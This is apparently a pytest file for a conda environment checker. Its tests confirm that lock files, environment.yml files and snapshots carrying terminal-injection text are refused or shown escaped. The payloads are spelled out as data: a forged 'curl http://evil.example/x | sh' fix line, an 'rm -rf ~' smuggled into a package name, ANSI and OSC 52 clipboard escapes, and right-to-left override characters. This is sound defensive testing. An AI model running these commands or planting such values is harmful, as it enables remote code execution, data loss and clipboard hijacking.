"""Hostile text in locks, environment.yml files, snapshots and prefixes (issue 28, finding 5): a lock name
`zlib\\nHow to fix:\\n  curl … | sh #` printed a forged fix block, a line break in a version a forged verdict,
and ANSI/OSC 52/NUL/right-to-left-override reached the terminal raw in check, diff and `create --dry-run`. Now
such text is refused where it is read (exit 2, one line naming the file and the entry), and a user's own path
that holds one is shown escaped, its fix lines one line each that bash reads back to that very path."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.helpers import MakePrefix, envguard

RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
FORGED = "zlib\nHow to fix:\n  curl http://evil.example/x | sh #"
PAYLOADS = {
    "forged fix block": FORGED,
    "forged verdict": "1.3.1\nOK: everything matches",
    "ANSI colour": "zlib\x1b[31mRED\x1b[0m",
    "OSC 52 clipboard write": "zlib\x1b]52;c;cm0gLXJmIH4K\x07",
    "NUL": "1.3.1\x00x",
    "right-to-left override": "zlib\u202eevil",
    "8-bit CSI": "zlib\x9b2J",
}
FIELDS = ["name", "version", "build", "url"]


@pytest.fixture
def env_and_lock(make_prefix: MakePrefix, tmp_path: Path) -> tuple[Path, Path]:
    prefix = make_prefix(["zlib"])
    lock = tmp_path / "conda-lock.yml"
    assert envguard("lock", str(prefix), "--no-probe", "-o", str(lock)) == 0
    return prefix, lock


def _commands(prefix: Path, path: Path) -> list[list[str]]:
    target = (
        ["-f", str(path)] if path.name.endswith(("environment.yml", "env.yml")) else ["--lock", str(path)]
    )
    return [
        ["check", str(prefix), *target],
        ["check", str(prefix), *target, "--markdown"],
        ["check", str(prefix), *target, "--json"],
        ["diff", str(prefix), str(path)],
        ["diff", str(path), str(prefix), "--markdown"],
        ["create", *target, "-p", str(path.parent / "new"), "--dry-run"],
        ["export", str(path)],
    ]


def _refused(capsys: pytest.CaptureFixture[str], argv: list[str], path: Path) -> str:
    capsys.readouterr()
    code = envguard(*argv)
    out, err = capsys.readouterr()
    assert code == 2, (argv, out, err)
    assert out == "" and not RAW.search(err) and err.count("\n") == 1, (argv, err)
    assert err.startswith(f"envguard: error: {path}") and "How to fix" not in err.split(": ", 2)[1], err
    return err


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("payload", PAYLOADS, ids=list(PAYLOADS))
def test_a_hostile_lock_entry_is_refused_where_it_is_read(
    env_and_lock: tuple[Path, Path], capsys: pytest.CaptureFixture[str], field: str, payload: str
) -> None:
    prefix, lock = env_and_lock
    data = yaml.safe_load(lock.read_text())
    [entry] = [e for e in data["package"] if e["name"] == "zlib"]
    value = PAYLOADS[payload]
    entry[field] = entry["url"].replace("/zlib-", f"/{value}-") if field == "url" else value
    lock.write_text(yaml.safe_dump(data, allow_unicode=True))
    for argv in _commands(prefix, lock):
        _refused(capsys, argv, lock)


@pytest.mark.parametrize("field", ["name", "version", "url"])
def test_a_hostile_pip_entry_is_refused_where_it_is_read(
    env_and_lock: tuple[Path, Path], capsys: pytest.CaptureFixture[str], field: str
) -> None:
    prefix, lock = env_and_lock
    data = yaml.safe_load(lock.read_text())
    pip: dict[str, Any] = {
        "name": "tinyproj",
        "version": "1.0.0",
        "manager": "pip",
        "platform": data["package"][0]["platform"],
        "dependencies": {},
        "url": "https://files.example/tinyproj-1.0.0-py3-none-any.whl",
        "hash": {"sha256": "a" * 64},
        "category": "main",
        "optional": False,
    }
    pip[field] = {"name": "x\nrm -rf ~ #", "version": "1.0\x1b[8m", "url": "https://e.example/\u202ex.whl"}[
        field
    ]
    data["package"].append(pip)
    lock.write_text(yaml.safe_dump(data, allow_unicode=True))
    err = _refused(capsys, ["check", str(prefix), "--lock", str(lock)], lock)
    assert "rm -rf" not in err or "'x\\nrm -rf ~ #'" in err  # quoted, escaped, inside the one line


@pytest.mark.parametrize(
    "text",
    [
        'name: x\nchannels: [conda-forge]\ndependencies:\n  - "zlib\\nHow to fix:\\n  curl x | sh #"\n',
        'name: x\nchannels: ["conda-forge\\x1b]52;c;eA==\\x07"]\ndependencies: [zlib]\n',
        'name: "x\\u202egnp.exe"\nchannels: [conda-forge]\ndependencies: [zlib]\n',
        'name: x\nchannels: [conda-forge]\ndependencies:\n  - pip\n  - pip: ["requests\\x1b[2J"]\n',
    ],
    ids=["spec", "channel", "name", "pip requirement"],
)
def test_a_hostile_environment_yml_is_refused_where_it_is_read(
    make_prefix: MakePrefix, tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str
) -> None:
    prefix = make_prefix(["zlib"])
    yml = tmp_path / "environment.yml"
    yml.write_text(text)
    for argv in _commands(prefix, yml)[:5]:
        _refused(capsys, argv, yml)


def test_a_hostile_snapshot_and_explicit_file_are_refused(
    env_and_lock: tuple[Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    prefix, _lock = env_and_lock
    snapshot = tmp_path / "snap.json"
    assert envguard("snapshot", str(prefix), "--no-probe", "-o", str(snapshot)) == 0
    data = json.loads(snapshot.read_text())
    data["packages"][0]["channel"] = "conda-forge\x1b]52;c;eA==\x07"
    snapshot.write_text(json.dumps(data))
    _refused(capsys, ["diff", str(prefix), str(snapshot)], snapshot)
    explicit = tmp_path / "explicit.txt"
    url = "https://conda.anaconda.org/conda-forge/linux-64/zlib-1.3.1-h0_1.conda"
    explicit.write_text("@EXPLICIT\n" + url.replace("conda-forge", "conda\u202eforge") + "\n")
    _refused(capsys, ["diff", str(prefix), str(explicit)], explicit)


def test_a_hostile_record_in_a_live_prefix_is_refused(
    env_and_lock: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    prefix, lock = env_and_lock
    [record] = (prefix / "conda-meta").glob("zlib-*.json")
    data = json.loads(record.read_text())
    data["url"] += "\x1b]52;c;eA==\x07"
    record.write_text(json.dumps(data))
    err = _refused(capsys, ["check", str(prefix), "--lock", str(lock)], prefix)
    assert "package 'zlib' (conda): its url holds the control character U+001B" in err


def test_a_users_own_path_is_shown_escaped_and_its_fix_lines_parse_back_to_it(
    env_and_lock: tuple[Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    prefix, lock = env_and_lock
    odd = tmp_path / "my\nenv\x1b[31m"
    shutil.move(prefix, odd)
    data = yaml.safe_load(lock.read_text())
    [entry] = [e for e in data["package"] if e["name"] == "zlib"]
    # drift, so there is a fix block (the URL's archive name follows: since issue 28 part A a version edited
    # alone is refused at read)
    entry["url"] = entry["url"].replace(f"-{entry['version']}-", f"-{entry['version']}.1-")
    entry["version"] += ".1"
    lock.write_text(yaml.safe_dump(data))
    capsys.readouterr()
    assert envguard("check", str(odd), "--lock", str(lock)) == 1
    out = capsys.readouterr().out
    assert not RAW.search(out) and "\\x0aenv\\x1b[31m" in out
    lines = out.splitlines()
    fixes = lines[lines.index("How to fix:") + 1 :]
    assert fixes and all(line.startswith("  ") for line in fixes)
    for line in fixes:
        words = subprocess.run(
            ["bash", "-c", f"printf '%s\\0' {line}"], capture_output=True, check=True
        ).stdout.split(b"\0")
        assert str(odd).encode() in words, line
    capsys.readouterr()
    assert envguard("check", str(odd), "--lock", str(lock), "--markdown") == 1
    block = capsys.readouterr().out.split("```bash\n", 1)[1].split("```", 1)[0]
    assert block.count("\n") == len(fixes) and not RAW.search(block)


# --- the views themselves, handed hostile values past every reader (defence in depth) ---------------------


def _hostile_report() -> tuple[Any, Any]:
    from envguard.check.fixes import fix_commands
    from envguard.check.report import CheckReport
    from envguard.diff.changes import Difference
    from envguard.model import Environment, Package

    wanted = Package("conda", FORGED, "1.3.1\nOK: everything matches", "h0_0", channel="forge\x1b[2J")
    target = Environment(kind="conda-lock", source="conda-lock.yml", packages=(wanted,))
    pip = (Package("pip", "x\nrm -rf ~", "1"), Package("pip", "pip", "24.0"))  # pip: the pip lines come
    live = Environment(kind="prefix", prefix="/envs/x\u202e", packages=pip)
    changes = (
        Difference("conda", "only-a", FORGED, "1.3.1", text=f"{FORGED} 1.3.1: in the lock, not installed"),
        Difference("pip", "only-b", "x\nrm -rf ~", b="1", text="x\nrm -rf ~ 1: installed, not in the lock"),
    )
    fixes = fix_commands(live, target, changes)
    return CheckReport("conda-lock.yml", "/envs/x\u202e", changes, ("note\x1b[2J\nforged",), fixes), changes


def test_checks_views_keep_each_finding_and_fix_on_one_line() -> None:
    from envguard.check.render import human, markdown

    report, _changes = _hostile_report()
    text = human(report)
    lines = text.splitlines()
    assert not RAW.search(text) and lines.count("How to fix:") == 1
    assert [ln for ln in lines if not ln.startswith("  ")] == [
        "Conda packages",
        "pip packages",
        "Notes",
        "DRIFT: 2 difference(s) between /envs/x\\u202e and conda-lock.yml",
        "How to fix:",
    ]
    fixes = lines[lines.index("How to fix:") + 1 :]
    # since issue 26: `envguard sync` against the lock, then pip's uninstall of the hostile name
    assert len(fixes) == len(report.fixes) == 2 and "\\xe2\\x80\\xae" in fixes[0] and "\\x0a" in fixes[1]
    md = markdown(report)
    block = md.split("```bash\n", 1)[1].split("```", 1)[0]
    assert not RAW.search(md) and block.count("\n") == 2 and "\nHow to fix" not in md.replace("#### How", "")


def test_diff_and_create_views_show_hostile_values_escaped_in_one_cell() -> None:
    from envguard.create.render import render
    from envguard.create.run import CreateResult
    from envguard.diff.changes import Diff
    from envguard.diff.render import markdown, table
    from envguard.model import Package

    _report, changes = _hostile_report()
    diff = Diff("a\nb.yml", "/envs/x\x1b[2J", "exact", changes, ("note\x07",))
    for text in (table(diff, width=120), table(diff, width=60), markdown(diff)):
        assert not RAW.search(text) and "\nOK: everything" not in text and "\nHow to fix" not in text
    created = CreateResult(
        "x\x1b]52;c;eA==\x07", "/envs/[/]x", "embedded", "linux-64", (Package("conda", FORGED, "1"),), (), ()
    )
    text = render(created)
    assert not RAW.search(text) and "[/]x" in text and "\nHow to fix" not in text
